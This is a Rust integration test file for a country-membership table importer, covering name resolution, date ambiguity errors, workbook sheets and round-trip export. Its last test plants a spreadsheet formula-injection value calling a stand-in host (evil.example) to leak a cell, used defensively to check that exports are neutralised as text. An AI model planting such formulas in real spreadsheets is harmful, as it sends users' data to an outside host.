//! Membership tables from spreadsheets, as analysts keep them: countries by name in whatever
//! spelling, dates as text, a sheet of initiatives or none. Each problem is named by table, row
//! and column; the result is an initiatives file checked like any other.

mod common;

use std::collections::BTreeSet;
use std::path::Path;

use common::atlas;
use microlateral_atlas::WorldData;
use microlateral_atlas::data::import::names::{Match, resolve};
use microlateral_atlas::data::{Dataset, bundled};

/// A test's own temporary folder, removed when it drops (passed or failed).
fn temp_folder() -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix("atlas-import-")
        .tempdir()
        .expect("a temporary folder")
}

/// A file in the test's folder.
fn temp(folder: &tempfile::TempDir, name: &str) -> std::path::PathBuf {
    folder.path().join(name)
}

fn run(args: &[&str]) -> (i32, String) {
    let output = atlas(args);
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stdout).into_owned(),
    )
}

/// Runs `import MEMBERS --initiatives LIST --out OUT`, and fails unless it succeeds.
fn import_tables(members: &Path, list: &Path, out: &Path) {
    let path = |p: &Path| p.to_str().expect("UTF-8").to_owned();
    let (code, printed) = run(&[
        "import",
        &path(members),
        "--initiatives",
        &path(list),
        "--out",
        &path(out),
    ]);
    assert_eq!(code, 0, "{printed}");
}

#[test]
fn the_bundled_data_exported_as_two_tables_imports_back_as_the_same_initiatives() {
    let folder = temp_folder();
    let (list, members, imported) = (
        temp(&folder, "list.csv"),
        temp(&folder, "members.csv"),
        temp(&folder, "back.json"),
    );
    let path = |p: &Path| p.to_str().expect("UTF-8").to_owned();
    assert_eq!(run(&["export-list", "--out", &path(&list)]).0, 0);
    assert_eq!(run(&["export-members", "--out", &path(&members)]).0, 0);
    import_tables(&members, &list, &imported);

    let world = WorldData::bundled().expect("world").world;
    let original = bundled::dataset(&world).expect("bundled");
    let back = Dataset::load(&imported, &world)
        .expect("the import loads")
        .dataset;
    assert_eq!(back.initiatives.len(), original.initiatives.len());
    for initiative in &original.initiatives {
        let again = back
            .by_id(&initiative.id)
            .expect("every initiative comes back");
        assert_eq!(
            (
                &again.name,
                again.kind,
                again.category,
                again.status,
                again.start,
                again.end,
                &again.summary,
                &again.outcome
            ),
            (
                &initiative.name,
                initiative.kind,
                initiative.category,
                initiative.status,
                initiative.start,
                initiative.end,
                &initiative.summary,
                &initiative.outcome
            ),
            "{}",
            initiative.id
        );
        // The states with their roles and periods; organisations are not in a table of
        // countries, and each role keeps its first source.
        let roles = |i: &microlateral_atlas::data::Initiative| -> BTreeSet<String> {
            i.actors
                .iter()
                .filter_map(|a| {
                    Some(format!(
                        "{} {} {:?} {:?}",
                        a.actor.state_code()?,
                        a.role.id(),
                        a.joined,
                        a.left
                    ))
                })
                .collect()
        };
        assert_eq!(roles(again), roles(initiative), "{}", initiative.id);
    }
}

#[test]
fn country_names_in_the_spellings_tables_use_resolve_to_their_codes() {
    for (name, code) in [
        ("Korea, Rep.", "KOR"),
        ("Egypt, Arab Rep.", "EGY"),
        ("Côte d'Ivoire", "CIV"),
        ("Cote d'Ivoire", "CIV"),
        ("Türkiye", "TUR"),
        ("Viet Nam", "VNM"),
        ("Czechia", "CZE"),
        ("Holland", "NLD"),
        ("  united STATES ", "USA"),
        ("NOR", "NOR"),
    ] {
        assert_eq!(resolve(name), Match::Country(code.to_owned()), "{name}");
    }
    assert_eq!(
        resolve("Congo"),
        Match::Ambiguous(vec!["COD".to_owned(), "COG".to_owned()])
    );
}

#[test]
fn the_name_matcher_resolves_99_percent_of_a_public_datasets_english_names() {
    // mledoze/countries (npm world-countries, ODbL), a dataset the alias table is not built
    // from: common and official names and alternative spellings.
    let text = std::fs::read_to_string("tests/data/world-countries-names.tsv").expect("read");
    let names: Vec<(&str, &str)> = text
        .lines()
        .filter(|l| !l.starts_with('#'))
        .skip(1)
        .filter_map(|l| l.split_once('\t'))
        .collect();
    assert!(names.len() > 500, "{} names", names.len());
    let misses: Vec<String> = names
        .iter()
        .filter(|(name, code)| resolve(name) != Match::Country((*code).to_owned()))
        .map(|(name, code)| format!("{name} ({code}): {:?}", resolve(name)))
        .collect();
    let rate = 1.0 - misses.len() as f64 / names.len() as f64;
    eprintln!("{:.2} % resolved; misses: {misses:#?}", rate * 100.0);
    assert!(rate >= 0.99, "{:.2} %: {misses:#?}", rate * 100.0);
}

#[test]
fn a_table_with_an_unknown_name_an_ambiguous_date_and_an_ambiguous_country_gets_one_error_each() {
    let folder = temp_folder();
    let out = temp(&folder, "problems.json");
    let (code, printed) = run(&[
        "import",
        "tests/data/import/problems.csv",
        "--out",
        out.to_str().expect("UTF-8"),
    ]);
    assert_eq!(code, 1);
    assert_eq!(
        printed,
        "tests/data/import/problems.csv: row 2, column country_name: no country is called \
         \"Nowhereland\"; write its ISO3 code\n\
         tests/data/import/problems.csv: row 3, column start date: \"03/04/2020\" could be \
         day/month or month/day; write it as 2020-MM-DD, or say which with --date-order dmy or \
         mdy\n\
         tests/data/import/problems.csv: row 4, column country_name: \"Congo\" matches more than \
         one country (COD, COG); write the country's full name or its ISO3 code\n"
    );
    assert!(!out.exists(), "nothing is written");
}

#[test]
fn a_table_without_a_role_column_says_which_headers_it_has() {
    let folder = temp_folder();
    let (code, printed) = run(&[
        "import",
        "tests/data/import/no-role.csv",
        "--out",
        temp(&folder, "no-role.json").to_str().expect("UTF-8"),
    ]);
    assert_eq!(code, 1);
    assert_eq!(
        printed,
        "tests/data/import/no-role.csv: row 1: no column for the role; expected a header such \
         as \"Role\" (the headers are: Initiative, Country, Joined, Source)\n"
    );
}

#[test]
fn a_day_first_date_reads_when_the_user_says_so() {
    let folder = temp_folder();
    let table = temp(&folder, "dmy.csv");
    std::fs::write(
        &table,
        "Initiative,Country,Role,Joined,Source\ndemo,Norway,lead,03/04/2020,https://example.org/a\n",
    )
    .expect("write");
    let out = temp(&folder, "dmy.json");
    let args = |order: &'static str| {
        vec![
            "import".to_owned(),
            table.display().to_string(),
            "--date-order".to_owned(),
            order.to_owned(),
            "--out".to_owned(),
            out.display().to_string(),
        ]
    };
    for (order, date) in [("dmy", "2020-04-03"), ("mdy", "2020-03-04")] {
        let args = args(order);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        assert_eq!(run(&args).0, 0);
        let text = std::fs::read_to_string(&out).expect("written");
        assert!(text.contains(&format!("\"joined\": \"{date}\"")), "{text}");
    }
}

#[test]
fn a_workbook_reads_its_members_and_initiatives_sheets_and_its_date_cells_only_when_told() {
    let folder = temp_folder();
    let out = temp(&folder, "workbook.json");
    let out_text = out.to_str().expect("UTF-8");
    let (code, printed) = run(&[
        "import",
        "tests/data/import/memberships.xlsx",
        "--out",
        out_text,
    ]);
    assert_eq!(code, 1);
    assert!(
        printed.contains(
            "memberships.xlsx, sheet \"Members\": row 2, column Joined: a spreadsheet date cell"
        ),
        "{printed}"
    );
    let (code, printed) = run(&[
        "import",
        "tests/data/import/memberships.xlsx",
        "--date-cells",
        "--out",
        out_text,
    ]);
    assert_eq!(code, 0, "{printed}");
    let world = WorldData::bundled().expect("world").world;
    let dataset = Dataset::load(&out, &world).expect("loads").dataset;
    let oslo = dataset.by_id("oslo-channel").expect("the initiative");
    assert_eq!(oslo.name, "Oslo channel");
    assert_eq!(oslo.summary, "Norway hosted secret talks.");
    assert_eq!(
        oslo.actors[0].joined.map(|d| d.to_iso_string()),
        Some("1993-01-20".to_owned())
    );
}

#[test]
fn names_in_several_spellings_import_into_a_file_that_opens_and_says_what_was_filled_in() {
    let folder = temp_folder();
    let out = temp(&folder, "names.json");
    let (code, printed) = run(&[
        "import",
        "tests/data/import/names.csv",
        "--out",
        out.to_str().expect("UTF-8"),
    ]);
    assert_eq!(code, 0, "{printed}");
    assert!(printed.starts_with(
        "note: christchurch-call: no initiatives table row, so filled in: name \"Christchurch \
         Call\", kind \"small_state\", category \"other\", start \"2019\", status \"ongoing\"\n"
    ));
    let world = WorldData::bundled().expect("world").world;
    let dataset = Dataset::load(&out, &world).expect("loads").dataset;
    let call = &dataset.initiatives[0];
    let codes: BTreeSet<&str> = call
        .actors
        .iter()
        .filter_map(|a| a.actor.state_code())
        .collect();
    assert_eq!(
        codes,
        [
            "CIV", "CZE", "EGY", "FRA", "KOR", "NLD", "NZL", "TUR", "VNM"
        ]
        .into()
    );
    assert_eq!((call.summary.as_str(), call.outcome.as_str()), ("", ""));
}

#[test]
fn an_initiative_named_in_another_script_is_asked_for_an_id_not_merged() {
    let folder = temp_folder();
    let table = temp(&folder, "cyrillic.csv");
    std::fs::write(
        &table,
        "Initiative,Country,Role,Source\nЗелёный пакт,Norway,lead,https://example.org/a\n",
    )
    .expect("write");
    let (code, printed) = run(&[
        "import",
        table.to_str().expect("UTF-8"),
        "--out",
        temp(&folder, "cyrillic.json").to_str().expect("UTF-8"),
    ]);
    assert_eq!(code, 1);
    assert!(
        printed.contains("row 2, column Initiative: \"Зелёный пакт\" gives no id"),
        "{printed}"
    );
}

#[test]
fn a_cell_that_would_run_as_a_formula_is_exported_as_text_and_imports_back_as_written() {
    let folder = temp_folder();
    let world = WorldData::bundled().expect("world").world;
    let mut dataset = bundled::dataset(&world).expect("bundled");
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let oslo = dataset.index_of("oslo-accords").expect("oslo");
    let notes = [
        hostile,
        "+1",
        "-2 in the count",
        "@SUM(A1)",
        "'=kept as typed",
    ];
    for (actor, note) in dataset.initiatives[oslo].actors.iter_mut().zip(notes) {
        actor.note = Some(note.to_owned());
    }
    dataset.initiatives[oslo].name = "=1+1".to_owned();
    let (data, list, members, imported) = (
        temp(&folder, "data.json"),
        temp(&folder, "list.csv"),
        temp(&folder, "members.csv"),
        temp(&folder, "back.json"),
    );
    std::fs::write(&data, dataset.to_json().expect("it serialises")).expect("write");
    let path = |p: &Path| p.to_str().expect("UTF-8").to_owned();
    let data_arg = path(&data);
    assert_eq!(
        run(&["export-list", "--data", &data_arg, "--out", &path(&list)]).0,
        0
    );
    assert_eq!(
        run(&[
            "export-members",
            "--data",
            &data_arg,
            "--out",
            &path(&members)
        ])
        .0,
        0
    );
    // No cell of either table starts as a formula: a spreadsheet shows each as text.
    for table in [&list, &members] {
        let text = std::fs::read_to_string(table).expect("written");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.expect("a row").iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: {cell:?}",
                    table.display()
                );
            }
        }
    }
    let text = std::fs::read_to_string(&members).expect("written");
    assert!(text.contains("'=HYPERLINK"), "{text}");

    import_tables(&members, &list, &imported);
    let back = Dataset::load(&imported, &world)
        .expect("the import loads")
        .dataset;
    let again = back.by_id("oslo-accords").expect("it comes back");
    assert_eq!(again.name, "=1+1");
    let notes_of = |i: &microlateral_atlas::data::Initiative| -> BTreeSet<String> {
        i.actors
            .iter()
            .filter(|a| a.actor.state_code().is_some())
            .filter_map(|a| a.note.clone())
            .collect()
    };
    assert_eq!(notes_of(again), notes_of(&dataset.initiatives[oslo]));
}
